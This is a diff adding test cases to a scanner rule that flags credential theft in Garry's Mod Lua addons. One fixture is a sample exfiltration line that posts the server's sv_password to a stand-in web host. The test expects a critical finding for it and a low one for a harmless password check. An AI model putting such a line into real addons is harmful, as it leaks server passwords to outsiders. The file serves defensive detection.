@@ -20,6 +20,20 @@ describe('credential_theft', () => {
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
+  it('join password checked to show a lock icon, sent nowhere', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'timer.Create("lock", 10, 0, function() SetGlobalBool("Locked", GetConVarString("sv_password") ~= "") end)',
+    });
+    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
+  });
+  it('join password read in a file that posts to a web host', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'timer.Simple(5, function() http.Post("https://a.invalid/s", { p = GetConVarString("sv_password") }) end)',
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
   it('ordinary convar', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua': 'local h = GetConVarString("hostname")',
